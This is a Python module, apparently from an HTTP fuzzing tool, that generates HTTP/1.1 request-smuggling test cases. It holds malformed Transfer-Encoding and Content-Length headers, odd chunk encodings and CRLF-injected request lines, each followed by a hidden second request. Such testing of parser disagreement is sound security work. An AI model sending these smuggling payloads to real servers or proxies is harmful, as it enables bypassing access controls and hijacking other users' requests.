"""Requests that one reader may take for one, and another for two (RFC 9112 11.2). In each
`~` stands for its number, and a request for /smuggled/~ may be hidden in what follows."""

import random

from fuzz import heads

from wire.messages import handshake, request

HIDDEN = b"GET /smuggled/~ HTTP/1.1\r\nHost: a\r\n\r\n"
POST = b"POST /case/~ HTTP/1.1\r\nHost: a\r\n"
GET = b"GET /case/~ HTTP/1.1\r\nHost: a\r\n"
LAST = b"0\r\n\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
HEADS_AT_RANDOM = 60

ENCODINGS = rb"""
Transfer-Encoding: chunked
TRANSFER-ENCODING: CHUNKED
Transfer-Encoding:chunked
Transfer-Encoding:\tchunked
Transfer-Encoding: chunked\x20
Transfer-Encoding: \x0bchunked
Transfer-Encoding: \x0cchunked
Transfer-Encoding: \xa0chunked
Transfer-Encoding: chunked\x85
Transfer-Encoding: chun\xe2\x84\xaaed
Transfer-Encoding : chunked
Transfer-Encoding\t: chunked
Transfer-Encoding\x00: chunked
Transfer-Encoding: chunked\x00
 Transfer-Encoding: chunked
Transfer_Encoding: chunked
Transfer Encoding: chunked
Transfer-Encoding:\r\n chunked
Transfer-Encoding:\n chunked
X: y\r\n Transfer-Encoding: chunked
X: y\nTransfer-Encoding: chunked
X: y\rTransfer-Encoding: chunked
X: y\x00\r\nTransfer-Encoding: chunked
X: y\n\r\nTransfer-Encoding: chunked
X\r\nTransfer-Encoding: chunked
: y\r\nTransfer-Encoding: chunked
Transfer-Encoding: identity
Transfer-Encoding: xchunked
Transfer-Encoding: chunkedx
Transfer-Encoding: chunked;q=1
Transfer-Encoding: "chunked"
Transfer-Encoding: chunked, identity
Transfer-Encoding: identity, chunked
Transfer-Encoding: chunked, chunked
Transfer-Encoding: gzip, chunked
Transfer-Encoding: ,chunked
Transfer-Encoding: chunked,
Transfer-Encoding:
Transfer-Encoding: chunked\r\nTransfer-Encoding: identity
Transfer-Encoding: identity\r\nTransfer-Encoding: chunked
Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked
Transfer-Encoding: chunked\r\nConnection: transfer-encoding
Transfer-Encoding: chunked\r\nConnection: close, Transfer-Encoding
"""

# {all} is as much as there is, 5 only the last chunk
LENGTHS = rb"""
Content-Length: 5\r\nContent-Length: {all}
Content-Length: {all}\r\nContent-Length: 5
Content-Length: 5\r\nContent-Length: 5
Content-Length: 5, {all}
Content-Length: {all}, 5
Content-Length: 5,5
Content-Length: 5 {all}
Content-Length: +5
Content-Length: -5
Content-Length: -0
Content-Length: 05
Content-Length: 0x5
Content-Length: 5.0
Content-Length: 5e1
Content-Length: 5_0
Content-Length: 5;
Content-Length: "5"
Content-Length: \xd9\xa5
Content-Length: \x0b5
Content-Length: 5\x0b
Content-Length: 5\x00
Content-Length: 5\t
Content-Length:
Content-Length : 5
Content-Length\x00: 5
 Content-Length: 5
Content_Length: 5
Content-Length:\r\n 5
Content-Length: 0\r\n 5
X: y\nContent-Length: 5
X: y\rContent-Length: 5
X: y\r\n Content-Length: 5
Content-Length: 18446744073709551621
Content-Length: 4294967301
Content-Length: 5\r\nConnection: content-length
Content-Length: {all}\r\nConnection: close, Content-Length
Content-Length: 5\r\nExpect: 100-continue
Content-Length: {all}\r\nExpect: 100-continue
Content-Length: {all}\r\nExpect:\r\n 100-continue
Content-Length: {all}\r\nExpect: 100-continuex
Content-Length: 0\r\nExpect: 100-continue
"""

# what follows a head with chunked coding, before the hidden request
CHUNKS = rb"""
5\r\nhello\r\n0\r\n\r\n
05\r\nhello\r\n0\r\n\r\n
00000000000000000005\r\nhello\r\n0\r\n\r\n
10000000000000005\r\nhello\r\n0\r\n\r\n
100000005\r\nhello\r\n0\r\n\r\n
FFFFFFFFFFFFFFFB\r\nhello\r\n0\r\n\r\n
0x5\r\nhello\r\n0\r\n\r\n
+5\r\nhello\r\n0\r\n\r\n
-5\r\nhello\r\n0\r\n\r\n
 5\r\nhello\r\n0\r\n\r\n
5 \r\nhello\r\n0\r\n\r\n
5\t\r\nhello\r\n0\r\n\r\n
5_0\r\nhello\r\n0\r\n\r\n
5 0\r\nhello\r\n0\r\n\r\n
5g\r\nhello\r\n0\r\n\r\n
\r\n5\r\nhello\r\n0\r\n\r\n
5\nhello\r\n0\r\n\r\n
5\rhello\r\n0\r\n\r\n
5\r\rhello\r\n0\r\n\r\n
5\r\nhello\n0\r\n\r\n
5\r\nhello0\r\n\r\n
5\r\nhellox\r\n0\r\n\r\n
5\r\nhelloxx0\r\n\r\n
5;a=b\r\nhello\r\n0\r\n\r\n
5 ;a=b\r\nhello\r\n0\r\n\r\n
5;\r\nhello\r\n0\r\n\r\n
5;\nhello\r\n0\r\n\r\n
5;a\nhello\r\n0\r\n\r\n
5;a\rb\r\nhello\r\n0\r\n\r\n
5;a\x00b\r\nhello\r\n0\r\n\r\n
5;a="\r\nhello\r\n0\r\n\r\n
2;\nxx\r\n2c\r\n0\r\n\r\nGET /smuggled/~ HTTP/1.1\r\nHost: a\r\n\r\n\r\n0\r\n\r\n
0\n\n
0\r\n\n
0\n\r\n
0\r\r\n\r\n
0 \r\n\r\n
00\r\n\r\n
0;a=b\r\n\r\n
0\r\nX: y\r\n\r\n
0\r\nX: y\n\r\n
0\r\nX: y\n\n
0\r\n X: y\r\n\r\n
0\r\nX y\r\n\r\n
0\r\nX : y\r\n\r\n
0\r\nContent-Length: 5\r\n\r\n
0\r\nTransfer-Encoding: chunked\r\n\r\n
0\r\nHost: b\r\n\r\n
0\r\nX: y\x00\r\n\r\n
\r\n\r\n
;a\r\n\r\n
"""

# whole heads
HEADS = rb"""
GET /case/~ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.1\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost:\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a, b\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a b\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a@b\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a/smuggled\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost : a\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\n b\r\n\r\n
GET http://b/case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET http://b/case/~ HTTP/1.1\r\n\r\n
GET http://a@b/case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET https://b/case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET //b/case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET b/case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET ~ HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~#x HTTP/1.1\r\nHost: a\r\n\r\n
GET /case\\~ HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/../case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~%0d%0aX:%20y HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~%20HTTP/1.1%0d%0aHost:%20a%0d%0a%0d%0aGET%20/smuggled/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~?x=%0d%0a%0d%0aGET%20/smuggled/~%20HTTP/1.1%0d%0a HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~%00 HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~\x00 HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~\xff HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~ x HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~\t HTTP/1.1\r\nHost: a\r\n\r\n
GET\t/case/~\tHTTP/1.1\r\nHost: a\r\n\r\n
GET  /case/~  HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~\r HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.1 \r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.1\r\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.1\nHost: a\n\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nX: y\r\n\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nX: y\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nX: y\r\n\rGET /smuggled/~ HTTP/1.1\r\n\r\n
GET /case/~ HTTP/1.1\r\n X: y\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nX: y\r\n\tz\r\n\r\n
\r\n\r\nGET /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
\nGET /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
 GET /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~\r\n\r\n
GET /case/~ HTTP/0.9\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.0\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n\r\n
GET /case/~ HTTP/1.2\r\nHost: a\r\n\r\n
GET /case/~ HTTP/2.0\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.10\r\nHost: a\r\n\r\n
GET /case/~ http/1.1\r\nHost: a\r\n\r\n
GET /case/~ HTTP/ 1.1\r\nHost: a\r\n\r\n
PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n
CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n
OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n
TRACE /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
HEAD /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
get /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GE\x00T /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nConnection: host\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nConnection: close, keep-alive\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n\r\n
POST /case/~ HTTP/1.1\r\nHost: a\r\n\r\n
POST /case/~ HTTP/1.0\r\nHost: a\r\n\r\n
POST /case/~ HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n
HEAD /case/~ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n0\r\n\r\n
GET /case/~ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n
OPTIONS /case/~ HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n0\r\n\r\n
DELETE /case/~ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n
"""

KEPT = ("Connection: keep-alive", "Transfer-Encoding: chunked")
BUILT = [
    handshake("/ws/~"),
    handshake("/ws/~", Sec_WebSocket_Version="777"),
    handshake("/case/~", Content_Length="5") + LAST,
    request("/case/~", "POST", *KEPT, version="1.0") + LAST,
    request("/case/~", "POST", "Content-Length: 5", *KEPT, version="1.0") + LAST,
]


def _lines(text):
    lines = text.strip(b"\n").split(b"\n")
    return [line.decode("unicode_escape").encode("latin-1") for line in lines]


def cases():
    """All of them, with their numbers in (bytes)."""
    found = []
    behind = LAST + HIDDEN
    n = len(behind) + 2  # a number has three digits
    for i, lines in enumerate(_lines(ENCODINGS)):
        whole = b"Content-Length: %d\r\n" % n
        lines += b"\r\n"
        found.append(POST + (whole + lines if i % 2 else lines + whole) + b"\r\n" + behind)
        found.append(POST + (lines + whole if i % 2 else whole + lines) + b"\r\n" + behind)
        found.append(POST + lines + b"\r\n" + behind)
        short = b"Content-Length: 4\r\n"
        found.append(POST + short + lines + b"\r\n27\r\n" + HIDDEN + b"\r\n" + LAST)
    for lines in _lines(LENGTHS):
        lines = lines.replace(b"{all}", b"%d" % n)
        found += [start + lines + b"\r\n\r\n" + behind for start in (POST, GET)]
    found += [POST + CHUNKED + b"\r\n" + chunks + HIDDEN for chunks in _lines(CHUNKS)]
    found += [head + HIDDEN for head in _lines(HEADS) + BUILT]
    chance = random.Random(1)
    found += [heads.make(chance)[:-8] + HIDDEN for _ in range(HEADS_AT_RANDOM)]
    return [case.replace(b"~", b"%03d" % i) for i, case in enumerate(found)]
